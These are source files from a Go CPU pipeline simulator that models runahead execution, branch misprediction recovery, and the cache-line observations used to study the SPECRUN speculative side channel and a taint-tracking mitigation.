		c.rat = *u.ratCP
	}
	if u.hasBPCP {
		c.bp.Restore(u.bpCP)
		if u.pd.CondBranch {
			c.bp.FixLast(u.actualTaken)
		}
	}

	c.fetchPC = u.actualTarget
	c.fetchBlocked = false
	if c.fetchStallUntil < now+1 {
		c.fetchStallUntil = now + 1
	}
	c.lastFetchLine = ^uint64(0)

	// The uop retires with its resolved outcome; prevent re-recovery.
	u.predTaken = u.actualTaken
	u.predTarget = u.actualTarget
}

// squashYounger marks every uop younger than seq as squashed and removes it
// from the ROB.  The event-driven scheduler maintains its queues eagerly
// (the SQ ring truncates from the back with its line chains unlinked, and
// the IQ/LQ occupancy counters drop with each squashed uop); the ready,
// replay and in-flight lists — and the polling reference's slices — drop
// marked entries when their phase next compacts, and the end-of-step drain
// recycles the uops once every queue has done so.  Fetch-buffer uops were
// never renamed — nothing else can reference them — so they recycle
// immediately.
func (c *CPU) squashYounger(seq uint64) {
	n := 0
	recompute := false
	for c.rob.len() > 0 {
		tail := c.rob.at(c.rob.len() - 1)
		if tail.seq <= seq {
			break
		}
		c.rob.popBack()
		tail.squashed = true
		if c.traceFn != nil {
			c.traceSquash(tail, true)
		}
		c.releasePRF(tail)
		if !c.pollSched {
			if tail.inIQ {
				tail.inIQ = false
				c.iqUsed--
			}
			if tail.isLoad() {
				c.lqUsed--
			}
			if tail.isStore() {
				st := c.sqr.popBack()
				c.sqUnlink(st)
				if st.seq == c.sqUnknown {
					recompute = true
				}
			}
		}
		c.deadNew = append(c.deadNew, tail)
		n++
	}
	if recompute {
		c.recomputeSQUnknown()
	}
	c.stats.Squashed += uint64(n + c.frontQ.len())
	for c.frontQ.len() > 0 {
		u := c.frontQ.popFront()
		u.squashed = true
		if c.traceFn != nil {
			c.traceSquash(u, true)
		}
		c.freeUOp(u)
	}
}

// squashAll empties the whole pipeline (runahead exit).  Every queue is
// truncated synchronously — squashAll runs from step() with no phase
// iteration in progress — so all pipeline uops recycle immediately,
// including any still pending from earlier partial squashes.
func (c *CPU) squashAll() {
	// Unlink stores from the disambiguation index before the uops recycle.
	for c.sqr.len() > 0 {
		c.sqUnlink(c.sqr.popFront())
	}
	c.sqUnknown = 0
	c.ready = c.ready[:0]
	c.replay = c.replay[:0]
	c.iqUsed, c.lqUsed = 0, 0

	for c.rob.len() > 0 {
		u := c.rob.popBack()
		u.squashed = true
		c.stats.Squashed++
		if c.traceFn != nil {
			c.traceSquash(u, false)
		}
		c.freeUOp(u)
	}
	c.stats.Squashed += uint64(c.frontQ.len())
	for c.frontQ.len() > 0 {
		u := c.frontQ.popFront()
		u.squashed = true
		if c.traceFn != nil {
			c.traceSquash(u, false)
		}
		c.freeUOp(u)
	}
	c.iq = c.iq[:0]
	c.lq = c.lq[:0]
	c.sq = c.sq[:0]
	c.inflight = c.inflight[:0]
	for _, u := range c.deadNew {
		c.freeUOp(u)
	}
	c.deadNew = c.deadNew[:0]
	for _, u := range c.deadOld {
		c.freeUOp(u)
	}
	c.deadOld = c.deadOld[:0]
	c.intPRFUsed, c.fpPRFUsed, c.vecPRFUsed = 0, 0, 0
}

func compact(s []*uop, keep func(*uop) bool) []*uop {
	out := s[:0]
	for _, u := range s {
		if keep(u) {
			out = append(out, u)
		}
	}
	return out
}

func dropSquashed(s []*uop) []*uop {
	return compact(s, func(u *uop) bool { return !u.squashed })
}
