package cpu

import "slices"

// writebackPhase completes executed uops whose latency has elapsed, waking
// dependants (by polling in issue) and resolving control flow.  The oldest
// mispredicted control instruction triggers recovery: younger uops are
// squashed, the RAT and predictor state are restored from the instruction's
// checkpoints, and fetch is redirected.  In-flight cache fills survive —
// that persistence is the Spectre/SPECRUN channel.
//
// Squashes only mark uops; the per-cycle phases lazily compact their queues,
// so a recovery in the middle of a scan never invalidates iteration state.
func (c *CPU) writebackPhase(now uint64) {
	if len(c.inflight) == 0 {
		return
	}
	sortBySeq(c.inflight)
	for _, u := range c.inflight {
		if u.squashed {
			continue
		}
		// STD half of a split store: capture the data once it arrives.
		if u.dataPending && u.stage == stIssued && c.srcsReadyTo(u, u.nsrc) {
			data := u.srcs[u.nsrc-1]
			u.storeVal, u.storeVal2 = data.val, data.val2
			u.storeINV = data.inv
			u.dataPending = false
			u.doneAt = now + 1
		}
		if u.stage != stIssued || u.doneAt > now {
			continue
		}
		u.stage = stDone
		if u.isCtl() && !u.unresolved && c.mispredicted(u) {
			// Oldest-first processing guarantees entries already completed
			// this cycle are older than u and survive the squash.
			c.recover(u, now)
		}
	}
	c.inflight = compact(c.inflight, func(u *uop) bool {
		return !u.squashed && u.stage == stIssued
	})
}

// sortBySeq orders uops oldest-first.  Seqs are unique, so the result is
// the same total order sort.Slice produced; slices.SortFunc avoids the
// reflect-based swapper allocation sort.Slice paid on every cycle.
func sortBySeq(s []*uop) {
	slices.SortFunc(s, func(a, b *uop) int {
		if a.seq < b.seq {
			return -1
		}
		return 1
	})
}

func (c *CPU) mispredicted(u *uop) bool {
	if u.inst.Op.IsCondBranch() {
		return u.actualTaken != u.predTaken
	}
	return u.actualTarget != u.predTarget
}

// recover repairs the machine after a resolved misprediction.
func (c *CPU) recover(u *uop, now uint64) {
	c.stats.CondMispredicts++
	c.bp.RecordMispredict()

	c.squashYounger(u.seq)

	if u.ratCP != nil {
		c.rat = *u.ratCP
	}
	if u.hasBPCP {
		c.bp.Restore(u.bpCP)
		if u.inst.Op.IsCondBranch() {
			c.bp.FixLast(u.actualTaken)
		}
	}

	c.fetchPC = u.actualTarget
	c.fetchBlocked = false
	if c.fetchStallUntil < now+1 {
		c.fetchStallUntil = now + 1
	}
	c.lastFetchLine = ^uint64(0)

	// The uop retires with its resolved outcome; prevent re-recovery.
	u.predTaken = u.actualTaken
	u.predTarget = u.actualTarget
}

// squashYounger marks every uop younger than seq as squashed and removes it
// from the ROB.  Issue/load/store/in-flight queues drop marked entries when
// their phase next compacts; the end-of-step drain recycles the uops once
// every queue has done so.  Fetch-buffer uops were never renamed — nothing
// else can reference them — so they recycle immediately.
func (c *CPU) squashYounger(seq uint64) {
	n := 0
	for c.rob.len() > 0 {
		tail := c.rob.at(c.rob.len() - 1)
		if tail.seq <= seq {
			break
		}
		c.rob.popBack()
		tail.squashed = true
		c.releasePRF(tail)
		c.deadNew = append(c.deadNew, tail)
		n++
	}
	c.stats.Squashed += uint64(n + c.frontQ.len())
	for c.frontQ.len() > 0 {
		u := c.frontQ.popFront()
		u.squashed = true
		c.freeUOp(u)
	}
}

// squashAll empties the whole pipeline (runahead exit).  Every queue is
// truncated synchronously — squashAll runs from step() with no phase
// iteration in progress — so all pipeline uops recycle immediately,
// including any still pending from earlier partial squashes.
func (c *CPU) squashAll() {
	for c.rob.len() > 0 {
		u := c.rob.popBack()
		u.squashed = true
		c.stats.Squashed++
		c.freeUOp(u)
	}
	c.stats.Squashed += uint64(c.frontQ.len())
	for c.frontQ.len() > 0 {
		u := c.frontQ.popFront()
		u.squashed = true
		c.freeUOp(u)
	}
	c.iq = c.iq[:0]
	c.lq = c.lq[:0]
	c.sq = c.sq[:0]
	c.inflight = c.inflight[:0]
	for _, u := range c.deadNew {
		c.freeUOp(u)
	}
	c.deadNew = c.deadNew[:0]
	for _, u := range c.deadOld {
		c.freeUOp(u)
	}
	c.deadOld = c.deadOld[:0]
	c.intPRFUsed, c.fpPRFUsed, c.vecPRFUsed = 0, 0, 0
}

func compact(s []*uop, keep func(*uop) bool) []*uop {
	out := s[:0]
	for _, u := range s {
		if keep(u) {
			out = append(out, u)
		}
	}
	return out
}

func dropSquashed(s []*uop) []*uop {
	return compact(s, func(u *uop) bool { return !u.squashed })
}
