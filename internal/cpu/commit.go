package cpu

import (
	"specrun/internal/isa"
	"specrun/internal/mem"
	"specrun/internal/runahead"
	"specrun/internal/secure"
)

// commitPhase retires up to CommitWidth completed uops from the ROB head.
// In normal mode retirement updates the committed architectural state; in
// runahead mode it pseudo-retires into the scratch state with INV/taint
// bits.  The phase also owns the runahead entry check: a load that missed to
// main memory and reached the ROB head switches the machine into runahead
// mode (Fig. 6 "Runahead Mode in").
func (c *CPU) commitPhase(now uint64) {
	for n := 0; n < c.cfg.CommitWidth; n++ {
		u := c.rob.front()
		if u == nil {
			break
		}
		if u.stage != stDone || u.doneAt > now {
			c.maybeEnterRunahead(u, now)
			if u.stage != stDone || u.doneAt > now {
				break
			}
		}
		c.rob.popFront()
		if c.mode == ModeNormal {
			c.retire(u, now)
			if c.traceFn != nil {
				c.traceEmit(TraceCommit, u)
			}
		} else {
			c.pseudoRetire(u, now)
			if c.traceFn != nil {
				c.traceEmit(TracePseudoRetire, u)
			}
		}
		c.releasePRF(u)
		c.removeFromLSQ(u)
		// The uop is out of every queue (ROB popped, LSQ removed above, and
		// a committed uop is stDone so the issue/in-flight queues dropped it
		// when it completed); recycle it.  Remaining RAT or operand
		// references validate seq and fall back to the architectural state,
		// which retirement just updated.
		c.freeUOp(u)
		c.lastProgress = c.cycle
		if c.halted {
			return
		}
	}
	c.trackStallWindow(now)
}

// maybeEnterRunahead triggers runahead mode when the blocked ROB head is a
// load (or return) whose miss went to the trigger level (main memory by
// default) and the pipeline has genuinely halted behind it: the instruction
// window has filled, or the front end itself is starved (§2.1: "the
// instruction window fills up and halts the pipeline").  Entering earlier
// would discard in-flight work the baseline machine keeps, turning runahead
// into a net loss on windows that still have room.
func (c *CPU) maybeEnterRunahead(u *uop, now uint64) {
	if c.mode != ModeNormal || c.cfg.Runahead.Kind == runahead.KindNone {
		return
	}
	if !u.isLoad() || u.stage != stIssued || u.doneAt <= now {
		return
	}
	if mem.Level(u.missLevel) < c.cfg.Runahead.TriggerLevel {
		return
	}
	// "Halted" means dispatch made no progress last cycle — the window or a
	// backend resource (ROB, IQ, LQ/SQ, physical registers) has filled, or
	// the front end is starved — while work is waiting.
	halted := c.dispatchedPrev == 0 &&
		(c.frontQ.len() > 0 || c.fetchBlocked || now < c.fetchStallUntil)
	if !c.rob.full() && !halted {
		return
	}
	c.enterRunahead(u, now)
}

// trackStallWindow records the normal-mode in-flight high-water mark while a
// memory-stalled load blocks the ROB head: Fig. 10 case ① (N1 is bounded by
// the ROB size).
func (c *CPU) trackStallWindow(now uint64) {
	if c.mode != ModeNormal {
		return
	}
	head := c.rob.front()
	if head == nil || !head.isLoad() || head.stage != stIssued || head.doneAt <= now {
		return
	}
	if mem.Level(head.missLevel) != mem.LevelMem {
		return
	}
	if w := uint64(c.rob.len() - 1); w > c.stats.MaxStallWindow {
		c.stats.MaxStallWindow = w
	}
}

func (c *CPU) removeFromLSQ(u *uop) {
	if c.pollSched {
		if u.isLoad() {
			for i, x := range c.lq {
				if x == u {
					c.lq = append(c.lq[:i], c.lq[i+1:]...)
					break
				}
			}
		}
		if u.isStore() {
			for i, x := range c.sq {
				if x == u {
					c.sq = append(c.sq[:i], c.sq[i+1:]...)
					break
				}
			}
		}
		return
	}
	if u.isLoad() {
		c.lqUsed--
	}
	if u.isStore() {
		// In-order retirement: the committing store is the oldest live store,
		// i.e. the front of the age-ordered ring.
		st := c.sqr.popFront()
		if st != u {
			panic("cpu: committing store is not the store-queue front")
		}
		c.sqUnlink(st)
		if st.seq == c.sqUnknown {
			c.recomputeSQUnknown()
		}
	}
}

// retire commits one uop architecturally (normal mode).
func (c *CPU) retire(u *uop, now uint64) {
	pd := u.pd
	op := pd.Op
	c.stats.Committed++

	if u.dest != isa.NoReg {
		c.arch.write(u.dest, u.result, u.result2, false, 0)
	}

	switch pd.Kind {
	case isa.KindStore, isa.KindCall, isa.KindCallR:
		size := int(pd.MemSize)
		c.memImg.Write(u.addr, min(size, 8), u.storeVal)
		if size == 16 {
			c.memImg.WriteU64(u.addr+8, u.storeVal2)
		}
		// Timing: the store drains to the L1 D-cache in the background.
		sres := c.hier.Access(mem.PortD, u.addr, now, true)
		if c.obsFn != nil {
			c.observe(ObsStore, u.pc, c.hier.LineAddr(u.addr), sres.Level)
		}
	case isa.KindFlush:
		c.hier.Flush(u.addr)
		c.sl.Remove(c.hier.LineAddr(u.addr))
		if c.obsFn != nil {
			c.observe(ObsFlush, u.pc, c.hier.LineAddr(u.addr), mem.LevelNone)
		}
	case isa.KindBranch:
		c.stats.CondBranches++
		c.bp.TrainCond(u.phtIdx, u.actualTaken)
		c.bp.CommitCond(u.actualTaken)
		if c.slActive {
			c.resolveScopes(u)
		}
	case isa.KindJumpR:
		c.bp.TrainBTB(u.pc, u.actualTarget)
	case isa.KindHalt:
		c.halted = true
	}
	switch pd.Kind {
	case isa.KindCall, isa.KindCallR:
		c.bp.CommitCall(u.pc + isa.InstBytes)
		if pd.Kind == isa.KindCallR {
			c.bp.TrainBTB(u.pc, u.actualTarget)
		}
	case isa.KindRet:
		c.bp.CommitRet()
	}

	// Learning structures for the precise and vector runahead variants.
	c.rdt.ObserveCommit(u.pc, u.inst)
	if pd.Kind == isa.KindLoad && u.addrValid {
		c.strides.Observe(u.pc, u.addr)
	}

	if c.commitFn != nil {
		// Read the destination back from the committed state (not u.result)
		// so hardwired-zero semantics match the reference interpreter.
		v, v2, _, _ := c.arch.read(u.dest)
		c.commitFn(CommitRecord{
			Seq: c.stats.Committed - 1, PC: u.pc, Op: op,
			Dest: u.dest, Val: v, Val2: v2,
		})
	}
}

// pseudoRetire retires one uop into the runahead scratch state (runahead
// mode).  Results never reach committed state; stores go to the runahead
// cache; valid branches train the predictor as in normal mode, while
// INV-source branches stay unresolved — the SPECRUN window.
func (c *CPU) pseudoRetire(u *uop, now uint64) {
	pd := u.pd
	c.stats.PseudoRetired++

	sec := c.cfg.Secure.Enabled
	if sec {
		c.tracker.Observe(u.pc)
	}

	if u.dest != isa.NoReg {
		c.arch.write(u.dest, u.result, u.result2, u.resINV, 0)
	}

	switch pd.Kind {
	case isa.KindALU, isa.KindRDTSC:
		if sec && u.dest != isa.NoReg {
			c.propagateTaint(u)
		}
	case isa.KindLoad:
		if sec {
			c.tagLoad(u)
		}
	case isa.KindRet:
		// The committed GHR/RSB stay frozen at the entry checkpoint; only
		// the speculative fetch-side RSB advanced (at fetch time).
		if sec {
			c.tracker.Propagate(regID(isa.SP), regID(isa.SP))
		}
	case isa.KindStore, isa.KindCall, isa.KindCallR:
		if u.addrValid {
			size := int(pd.MemSize)
			c.raCache.Write(u.addr, min(size, 8), u.storeVal, u.storeINV)
			if size == 16 {
				c.raCache.Write(u.addr+8, 8, u.storeVal2, u.storeINV)
			}
		}
	case isa.KindBranch:
		c.stats.CondBranches++
		if u.unresolved {
			if sec {
				c.registerScope(u)
			}
		} else {
			// Valid branches resolve and train as in normal mode (§2.1),
			// but the committed GHR/RSB stay frozen at the entry checkpoint.
			c.bp.TrainCond(u.phtIdx, u.actualTaken)
		}
	case isa.KindJumpR:
		if !u.unresolved {
			c.bp.TrainBTB(u.pc, u.actualTarget)
		}
	}
}

// propagateTaint forwards register taint through an ALU op (secure mode).
func (c *CPU) propagateTaint(u *uop) {
	var ids [4]uint16
	n := 0
	for i := 0; i < u.nsrc; i++ {
		ids[n] = regID(u.srcs[i].reg)
		n++
	}
	c.tracker.Propagate(regID(u.dest), ids[:n]...)
}

// tagLoad assigns the Btag/IS tags of Fig. 12 to a pseudo-retired load and
// to its SL-cache entry, and taints the destination with the address taint.
func (c *CPU) tagLoad(u *uop) {
	var addrTaint secure.TaintSet
	for i := 0; i < u.nsrc; i++ {
		addrTaint = addrTaint.Union(c.tracker.TaintOf(regID(u.srcs[i].reg)))
	}
	tag, is := c.tracker.OnLoad(u.pc, addrTaint)
	if u.addrValid {
		c.sl.Tag(c.hier.LineAddr(u.addr), tag, is)
	}
	if u.dest != isa.NoReg {
		c.tracker.SetTaint(regID(u.dest), is)
	}
}

// registerScope opens a taint scope for an unresolved (INV-source) branch:
// its predicate registers become taint roots (the rX/rY of Fig. 12).
func (c *CPU) registerScope(u *uop) {
	u.scopeN = c.tracker.RegisterBranch(u.pc, u.inst.Target, u.predTaken,
		regID(u.inst.Rs1), regID(u.inst.Rs2))
}

// resolveScopes implements the branch-resolution arm of Algorithm 1: when a
// branch whose PC opened a scope during the last runahead episode commits,
// compare its real direction with the episode's prediction; correct
// predictions unlock promotion, mispredictions delete the related entries.
func (c *CPU) resolveScopes(u *uop) {
	for _, sc := range c.tracker.Scopes() {
		if sc.Resolved || sc.Start != u.pc {
			continue
		}
		sc.Resolved = true
		sc.Correct = u.actualTaken == sc.PredTaken
		if sc.Correct {
			c.resolvedOK[sc.N] = c.scopeEpoch
		} else {
			c.sl.DeleteRelated(sc.N, c.tracker.InnerOf)
		}
	}
	if c.sl.C() == 0 {
		c.slActive = false
	}
}

// enterRunahead checkpoints the architectural state, poisons the stalling
// load and switches to runahead mode (Fig. 6 "Runahead Mode in").
func (c *CPU) enterRunahead(stalling *uop, now uint64) {
	c.stats.RunaheadEpisodes++
	if c.debugRA != nil {
		c.debugRA("enter RA ep=%d cycle=%d pc=%#x seq=%d doneAt=%d robLen=%d",
			c.stats.RunaheadEpisodes, now, stalling.pc, stalling.seq, stalling.doneAt, c.rob.len())
	}
	c.ra = runaheadState{
		checkpoint:  c.arch,
		stallingPC:  stalling.pc,
		stallingSeq: stalling.seq,
		stallDone:   stalling.doneAt,
		episode:     c.stats.RunaheadEpisodes,
		maxSeq:      stalling.seq,
	}
	if tail := c.rob.len(); tail > 0 {
		c.ra.maxSeq = c.rob.at(tail - 1).seq
	}
	c.mode = ModeRunahead

	if c.cfg.Secure.Enabled {
		if c.tracker == nil {
			c.tracker = secure.NewTracker()
		} else {
			c.tracker.Reset()
		}
		c.sl.Clear()
		c.slActive = false
		c.scopeEpoch++ // empties the epoch-tagged resolvedOK set in O(1)
	}

	// The stalling load pseudo-retires immediately with an INV result; its
	// in-flight fill request keeps running and defines the exit time.  It
	// completes here rather than in writeback, so it wakes its dependants
	// itself (they observe the poisoned value this same cycle, exactly when
	// the polling scheduler's consumers would see stDone).
	c.poisonSlowLoad(stalling, now)
	stalling.stage = stDone
	stalling.doneAt = now
	if c.traceFn != nil {
		// The poison IS this load's completion: writeback skips stDone uops,
		// so the lifecycle event is emitted here.
		c.traceEmit(TraceComplete, stalling)
	}
	if !c.pollSched {
		c.wakeWaiters(stalling, now)
	}

	// Every other in-flight load still waiting on a distant fill is poisoned
	// the same way (Mutlu et al.: instructions dependent on outstanding
	// misses are invalidated at entry).  Waiting for them would stall
	// pseudo-retirement and collapse the episode's reach; their fills keep
	// running and still act as prefetches.
	slack := uint64(c.cfg.Mem.L1D.Latency + c.cfg.Mem.L2.Latency + 2)
	for i := 0; i < c.rob.len(); i++ {
		u := c.rob.at(i)
		if u != stalling && u.isLoad() && u.stage == stIssued && u.doneAt > now+slack {
			c.poisonSlowLoad(u, now)
			u.doneAt = now + 1
		}
	}
	c.lastProgress = c.cycle
}

// poisonSlowLoad marks a load INV; a RET whose pop was poisoned additionally
// becomes an unresolved control instruction steered by its RSB prediction.
func (c *CPU) poisonSlowLoad(u *uop, now uint64) {
	u.resINV = true
	if u.isCtl() {
		u.unresolved = true
		u.actualTaken = true
		u.actualTarget = u.predTarget
	}
}

// exitRunahead restores the checkpoint and restarts normal execution at the
// stalling load (Fig. 6 "Runahead Mode out").  Prefetched lines — and, in
// secure mode, the SL cache — survive; everything else is discarded.
func (c *CPU) exitRunahead(now uint64) {
	reach := c.ra.maxSeq - c.ra.stallingSeq + 1
	if c.debugRA != nil {
		c.debugRA("exit RA cycle=%d reach=%d", now, reach)
	}
	c.stats.EpisodeReaches = append(c.stats.EpisodeReaches, reach)

	c.squashAll()
	c.arch = c.ra.checkpoint
	c.rat.reset()
	c.bp.SyncToCommitted()
	c.raCache.Clear()

	c.mode = ModeNormal
	c.fetchPC = c.ra.stallingPC
	c.fetchBlocked = false
	c.fetchStallUntil = now + uint64(c.cfg.Runahead.ExitPenalty)
	c.lastFetchLine = ^uint64(0)

	if c.cfg.Secure.Enabled {
		c.sl.PurgeUntagged()
		c.slActive = c.sl.C() > 0
	}
	c.lastProgress = c.cycle
}
