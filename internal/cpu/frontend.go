package cpu

import (
	"specrun/internal/isa"
	"specrun/internal/mem"
)

// fetchPhase fetches up to FetchWidth instructions per cycle from the L1
// I-cache, predicting branches as it goes.  A predicted-taken control
// instruction ends the fetch group; an I-cache miss stalls fetch until the
// fill arrives (this fill bandwidth is what bounds the transient reach of a
// runahead episode over a cold instruction stream — Fig. 10).
func (c *CPU) fetchPhase(now uint64) {
	if c.fetchBlocked || now < c.fetchStallUntil {
		return
	}
	if c.mode == ModeRunahead && c.ra.fetchBarrier {
		return // SkipINVBranch mitigation: no speculation past an INV branch
	}
	for n := 0; n < c.cfg.FetchWidth; n++ {
		if c.frontQ.full() {
			return
		}
		in, ok := c.prog.InstAt(c.fetchPC)
		if !ok {
			// Ran off the program text (wrong path or program error); idle
			// until a branch resolution redirects fetch.
			c.fetchBlocked = true
			return
		}
		line := c.hier.LineAddr(c.fetchPC)
		if line != c.lastFetchLine {
			res := c.hier.Access(mem.PortI, c.fetchPC, now, false)
			c.lastFetchLine = line
			if res.Done > now+uint64(c.cfg.Mem.L1I.Latency) {
				// I-cache miss: stall until the fill arrives, then re-fetch
				// this line (it will hit).
				c.fetchStallUntil = res.Done
				return
			}
		}
		u := c.newUOp(in, now)
		redirected := c.predict(u)
		c.frontQ.push(u)
		c.stats.Fetched++
		if c.traceFn != nil {
			c.traceEmit(TraceFetch, u)
		}
		if u.pd.Kind == isa.KindHalt {
			// Nothing architectural follows a HALT; stop fetching until a
			// squash or redirect proves this path wrong.
			c.fetchBlocked = true
			return
		}
		if redirected {
			return // taken control flow ends the fetch group
		}
	}
}

func (c *CPU) newUOp(in isa.Inst, now uint64) *uop {
	c.seq++
	u := c.allocUOp()
	u.seq = c.seq
	u.pc = c.fetchPC
	u.inst = in
	u.pd = c.predecoded(c.fetchPC, in)
	u.fetchedAt = now
	u.dispatchable = now + uint64(c.cfg.FrontEndDepth-1)
	if c.mode == ModeRunahead {
		u.raEpisode = c.ra.episode
	}
	return u
}

// predecoded returns the uop template for the instruction at pc, filling the
// per-PC cache slot on first fetch.  The caller has already resolved in via
// prog.InstAt(pc), so the index is in range.
func (c *CPU) predecoded(pc uint64, in isa.Inst) *isa.Predecoded {
	p := &c.pd[(pc-c.prog.Base)/isa.InstBytes]
	if p.Op == isa.BAD {
		*p = isa.Predecode(in)
	}
	return p
}

// predict chooses the next fetch PC for u and records the prediction state
// needed for training and recovery.  It reports whether fetch was redirected
// away from the sequential path.
func (c *CPU) predict(u *uop) bool {
	next := u.pc + isa.InstBytes
	switch u.pd.Kind {
	case isa.KindBranch:
		taken, idx := c.bp.PredictCond(u.pc)
		u.phtIdx = idx
		u.predTaken = taken
		if taken {
			next = u.inst.Target
		}
		c.bp.CheckpointInto(&u.bpCP)
		u.hasBPCP = true
	case isa.KindJump:
		next = u.inst.Target
	case isa.KindJumpR:
		if t, ok := c.bp.PredictIndirect(u.pc); ok {
			next = t
		}
		c.bp.CheckpointInto(&u.bpCP)
		u.hasBPCP = true
	case isa.KindCall:
		c.bp.PushRSB(u.pc + isa.InstBytes)
		next = u.inst.Target
		c.bp.CheckpointInto(&u.bpCP)
		u.hasBPCP = true
	case isa.KindCallR:
		c.bp.PushRSB(u.pc + isa.InstBytes)
		if t, ok := c.bp.PredictIndirect(u.pc); ok {
			next = t
		}
		c.bp.CheckpointInto(&u.bpCP)
		u.hasBPCP = true
	case isa.KindRet:
		next = c.bp.PopRSB()
		c.bp.CheckpointInto(&u.bpCP)
		u.hasBPCP = true
	}
	u.predTarget = next
	c.fetchPC = next
	if next != u.pc+isa.InstBytes {
		c.lastFetchLine = ^uint64(0)
		return true
	}
	return false
}
