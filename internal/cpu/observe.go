package cpu

import "specrun/internal/mem"

// ObsKind classifies one pipeline-side microarchitectural observation.
type ObsKind uint8

const (
	// ObsLoad is a data-cache hierarchy touch by an executing load or
	// return-address pop.  The access happens at issue time — before any
	// squash can undo it — so wrong-path and runahead loads appear here,
	// which is exactly the SPECRUN side channel.
	ObsLoad ObsKind = iota
	// ObsPrefetch is a vector-runahead stride prefetch (a hierarchy fill
	// issued for a predicted future lane, not for the load's own address).
	ObsPrefetch
	// ObsStore is a committed store draining to the L1 D-cache.
	ObsStore
	// ObsFlush is a committed CLFLUSH evicting its line from every level.
	ObsFlush
	// ObsSLPromote is an SL-cache line moving into the L1 D-cache
	// (Algorithm 1 line 13) after its gating branch resolved correctly —
	// the one defense-mode event that changes attacker-visible cache state.
	ObsSLPromote
)

func (k ObsKind) String() string {
	switch k {
	case ObsLoad:
		return "load"
	case ObsPrefetch:
		return "prefetch"
	case ObsStore:
		return "store"
	case ObsFlush:
		return "flush"
	case ObsSLPromote:
		return "sl-promote"
	default:
		return "?"
	}
}

// Observation is one microarchitecturally visible event: a cache line an
// attacker sharing the data cache could learn about by probing.  Events are
// emitted in execution order and deliberately carry no cycle numbers — a
// cache-probing attacker observes *which* lines moved, and the leak oracle
// (specrun/internal/leak) compares event sequences, where a pure timing
// shift between two runs must not register as a divergence.
//
// The secure runahead path is intentionally absent: loads issued during a
// secure episode probe the hierarchy without filling it (AccessNoFill) and
// park their lines in the hidden SL buffer, so nothing attacker-visible
// happens until an ObsSLPromote.
type Observation struct {
	PC    uint64    // instruction that caused the event
	Line  uint64    // line-aligned address touched
	Kind  ObsKind   //
	Level mem.Level // hierarchy level that served the access (loads/prefetches/stores)
	Mode  Mode      // machine mode at the event
}

// SetObserver installs fn to receive one Observation per attacker-visible
// cache-line event, in execution order (nil removes it).  Like the other
// observation hooks it is kept across Reset and runs synchronously inside
// the simulation loop.  The tap is inert when disabled: every emission site
// is nil-checked and passes values already computed for the simulation
// itself, so an untapped machine executes the exact same state transitions
// (the observer-neutrality tests pin this) with zero added allocation (the
// alloc tests pin that).
//
// Hierarchy-internal fill and eviction events are reported separately by
// mem.Hierarchy.SetObserver; a leak oracle installs both.
func (c *CPU) SetObserver(fn func(Observation)) { c.obsFn = fn }

// observe emits one event; callers nil-check c.obsFn first so the disabled
// tap costs a single branch.
func (c *CPU) observe(kind ObsKind, pc, line uint64, lvl mem.Level) {
	c.obsFn(Observation{PC: pc, Line: line, Kind: kind, Level: lvl, Mode: c.mode})
}
