package cpu

import "specrun/internal/isa"

// This file is the polling backend scheduler — the implementation the
// event-driven scheduler (sched.go) replaced, kept as the cycle-exact
// reference oracle: issuePhasePoll re-scans the whole issue queue and
// re-polls every source operand every cycle, scanSQPoll walks every older
// store per load attempt, and writebackPhasePoll re-sorts the in-flight
// list and polls split-store data operands.  The scheduler equivalence
// suite runs randomized programs under both schedulers and requires
// identical Stats and commit streams cycle for cycle; any divergence is a
// bug in the event-driven bookkeeping.
//
// SetPollingReference selects it.  It exists for differential testing and
// costs the hot loop nothing when disabled (one branch per phase).

// SetPollingReference switches the backend to the legacy polling scheduler
// (true) or the event-driven one (false, the default).  It must be called
// on an idle machine — freshly built or Reset, before any cycle has run —
// because the two schedulers track in-flight state differently.  The
// polling scheduler is retained purely as a differential-testing oracle.
func (c *CPU) SetPollingReference(on bool) {
	if c.cycle != 0 || c.rob.len() > 0 {
		panic("cpu: SetPollingReference on a machine that has already run")
	}
	c.pollSched = on
	if on && c.iq == nil {
		// The polling queues exist only here; event-scheduler machines (the
		// default everywhere) never pay for them.
		c.iq = make([]*uop, 0, c.cfg.IQSize)
		c.lq = make([]*uop, 0, c.cfg.LQSize)
		c.sq = make([]*uop, 0, c.cfg.SQSize)
	}
}

// issuePhasePoll selects up to IssueWidth ready uops, oldest first, by
// rescanning the entire issue queue and polling every source operand.
func (c *CPU) issuePhasePoll(now uint64) {
	c.iq = dropSquashed(c.iq)
	c.lq = dropSquashed(c.lq)
	c.sq = dropSquashed(c.sq)
	issued := 0
	for idx := 0; idx < len(c.iq) && issued < c.cfg.IssueWidth; idx++ {
		u := c.iq[idx]
		if u.squashed { // may be marked mid-phase by an INV-branch barrier
			continue
		}
		// Stores issue as soon as their address operands are ready (split
		// store-address/store-data µops, as in real cores): younger loads
		// can then disambiguate against them instead of serialising behind
		// the store's data dependence.
		if u.pd.Kind == isa.KindStore {
			if !c.srcsReadyTo(u, u.nsrc-1) {
				continue
			}
		} else if !c.srcsReady(u) {
			continue
		}
		if u.pd.Serializing && c.rob.front() != u {
			continue // RDTSC/FENCE execute at the ROB head only
		}
		fu := u.pd.FU
		if !c.fuAvailable(fu, now) {
			continue
		}
		if !c.execute(u, now) {
			// Memory-ordering or SL-cache gating: retry next cycle.  (The
			// polling scheduler has no replay queue; the reason execute
			// recorded in replayWhy matches what the event-driven scheduler
			// would have tagged its TraceReplay with.)
			if c.traceFn != nil {
				c.traceEmit(TraceReplay, u)
			}
			continue
		}
		c.consumeFU(fu, now, uint64(u.pd.Lat))
		u.stage = stIssued
		c.inflight = append(c.inflight, u)
		c.iq = append(c.iq[:idx], c.iq[idx+1:]...)
		idx--
		issued++
		c.stats.Issued++
		if c.traceFn != nil {
			c.traceEmit(TraceIssue, u)
		}
	}
}

// writebackPhasePoll completes executed uops whose latency has elapsed,
// re-sorting the in-flight list each cycle and polling split-store data
// operands; dependants learn of completions by polling in the next issue
// phase.
func (c *CPU) writebackPhasePoll(now uint64) {
	if len(c.inflight) == 0 {
		return
	}
	sortBySeq(c.inflight)
	for _, u := range c.inflight {
		if u.squashed {
			continue
		}
		// STD half of a split store: capture the data once it arrives.
		if u.dataPending && u.stage == stIssued && c.srcsReadyTo(u, u.nsrc) {
			data := u.srcs[u.nsrc-1]
			u.storeVal, u.storeVal2 = data.val, data.val2
			u.storeINV = data.inv
			u.dataPending = false
			u.doneAt = now + 1
		}
		if u.stage != stIssued || u.doneAt > now {
			continue
		}
		u.stage = stDone
		if c.traceFn != nil {
			c.traceEmit(TraceComplete, u)
		}
		if u.isCtl() && !u.unresolved && c.mispredicted(u) {
